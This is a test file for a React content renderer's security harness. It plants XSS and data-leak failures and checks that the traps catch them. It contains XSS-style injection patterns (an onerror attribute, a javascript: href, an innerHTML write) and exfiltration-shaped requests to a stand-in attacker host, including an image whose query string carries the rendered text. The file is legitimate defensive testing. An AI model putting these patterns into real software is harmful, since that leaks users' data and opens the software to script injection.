/*
 * The traps are only worth something if they fire: each test here plants the failure a trap
 * exists for and checks that it is caught, and that the full case runner then fails.
 */
import * as React from 'react';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { BlockProps, TextBlock } from '../../src/index.js';
import type { Case } from './corpus/case.js';
import { EVIL, PWN, done, text } from './corpus/case.js';
import {
  ALLOWED_MEDIA_PREFIX,
  attemptedRequests,
  installTraps,
  prototypeFingerprint,
  resetTraps,
  settle,
  trapped,
} from './harness.js';
import { frames, runCase } from './run-case.js';

const kinds = () => trapped(document.body).map((entry) => entry.kind);
const sandbox = () => {
  const element = document.createElement('div');
  document.body.append(element);
  return element;
};

beforeAll(() => installTraps());
// Reports of one test's planted failures can arrive late: let them land before clearing.
beforeEach(async () => {
  await new Promise((resolve) => setTimeout(resolve, 50));
  resetTraps();
});

describe('script trap', () => {
  it('catches an inline <script>, which the policy blocks before it runs', async () => {
    const script = document.createElement('script');
    script.textContent = PWN;
    sandbox().append(script);
    await frames();
    expect(kinds()).toContain('script');
    expect((window as { __ramPwned?: unknown }).__ramPwned).toBeUndefined();
    script.remove();
  });

  it('catches an inline event handler attribute', async () => {
    const box = sandbox();
    const image = document.createElement('img');
    image.setAttribute('onerror', PWN);
    image.src = 'data:image/png;base64,AAAA';
    box.append(image);
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(
      trapped(box)
        .map((entry) => entry.detail)
        .join(),
    ).toMatch(/onerror/);
    expect(kinds()).toContain('script');
    box.remove();
  });

  it('catches a javascript: navigation and a javascript: href in the DOM', async () => {
    const box = sandbox();
    const link = document.createElement('a');
    link.href = `javascript:${PWN}`;
    link.textContent = 'x';
    box.append(link);
    expect(trapped(box).some((entry) => entry.detail.startsWith('link javascript:'))).toBe(true);
    link.click();
    await frames();
    expect(kinds().filter((kind) => kind === 'script').length).toBeGreaterThanOrEqual(2);
    box.remove();
  });

  it('catches alert, confirm, prompt, window.open and the flag', () => {
    window.alert('x');
    window.confirm('x');
    window.prompt('x');
    window.open(`https://${EVIL}/`);
    (window as { __ramPwned?: unknown }).__ramPwned = 1;
    expect(kinds().filter((kind) => kind === 'dialog')).toHaveLength(4);
    expect(kinds()).toContain('script');
  });
});

describe('request trap', () => {
  it('catches an image that is never put in the page', async () => {
    new Image().src = `https://${EVIL}/pixel?q=secret`;
    await frames();
    expect(attemptedRequests()).toEqual([`https://${EVIL}/pixel?q=secret`]);
    expect(kinds()).toContain('request');
  });

  it('catches fetch, XMLHttpRequest, sendBeacon, WebSocket and EventSource', async () => {
    await fetch(`https://${EVIL}/f`).catch(() => undefined);
    const xhr = new XMLHttpRequest();
    xhr.open('GET', `https://${EVIL}/x`);
    navigator.sendBeacon(`https://${EVIL}/b`, 'secret');
    try {
      new WebSocket(`wss://${EVIL}/w`).close();
    } catch {
      // The policy may refuse the socket at construction; the hook has seen it first.
    }
    new EventSource(`https://${EVIL}/e`).close();
    const details = trapped(document.body)
      .map((entry) => entry.detail)
      .join('\n');
    for (const path of ['/f', '/x', '/b', '/w', '/e']) expect(details).toContain(`${EVIL}${path}`);
  });

  it('flags a lazy image and a CSS url() before the browser fetches them', () => {
    const box = sandbox();
    const image = document.createElement('img');
    image.loading = 'lazy';
    image.setAttribute('src', `https://${EVIL}/lazy.png`);
    const styled = document.createElement('div');
    styled.setAttribute('style', `background:url(https://${EVIL}/bg.png)`);
    box.append(image, styled);
    const details = trapped(box)
      .map((entry) => entry.detail)
      .join('\n');
    expect(details).toContain(`<img src> https://${EVIL}/lazy.png`);
    expect(details).toContain(`bg.png`);
    box.remove();
  });

  it('lets this origin, data: and the allow-list through', async () => {
    const box = sandbox();
    const image = document.createElement('img');
    image.src = `${ALLOWED_MEDIA_PREFIX}a.png`;
    box.append(image);
    await frames();
    expect(trapped(box)).toEqual([]);
    expect(attemptedRequests()).toEqual([`${ALLOWED_MEDIA_PREFIX}a.png`]);
    box.remove();
  });
});

describe('the case runner', () => {
  const plain: Case = { name: 'plain', where: 'markdown', message: () => done(text('hello')) };

  it('passes a harmless case', async () => {
    await runCase(plain);
  });

  it('fails a renderer that leaks an image to an attacker', async () => {
    function LeakyText({ block }: BlockProps<TextBlock>) {
      return <img alt="" src={`https://${EVIL}/?q=${encodeURIComponent(block.text)}`} />;
    }
    await expect(runCase(plain, { components: { text: LeakyText } })).rejects.toThrow(
      /requests or markup trapped/,
    );
  });

  it('fails a renderer that writes raw HTML', async () => {
    function RawText({ block }: BlockProps<TextBlock>) {
      const ref = React.useRef<HTMLDivElement>(null);
      React.useLayoutEffect(() => {
        // The planted failure under test: raw HTML from content.
        if (ref.current) ref.current.innerHTML = `<img src=x onerror="${PWN}">${block.text}`;
      });
      return <div ref={ref} />;
    }
    await expect(runCase(plain, { components: { text: RawText } })).rejects.toThrow(/trapped/);
  });

  it('fails a case that changes a built-in prototype', async () => {
    function Polluting({ block }: BlockProps<TextBlock>) {
      (Object.prototype as Record<string, unknown>)['polluted'] = block.text;
      return null;
    }
    try {
      await expect(runCase(plain, { components: { text: Polluting } })).rejects.toThrow(
        /prototypes changed/,
      );
    } finally {
      delete (Object.prototype as Record<string, unknown>)['polluted'];
    }
    expect(prototypeFingerprint()).not.toContain('polluted');
  });

  it('measures render and layout time', () => {
    const start = performance.now();
    while (performance.now() - start < 30) {
      // a planted 30 ms freeze
    }
    expect(settle(start)).toBeGreaterThanOrEqual(30);
  });
});
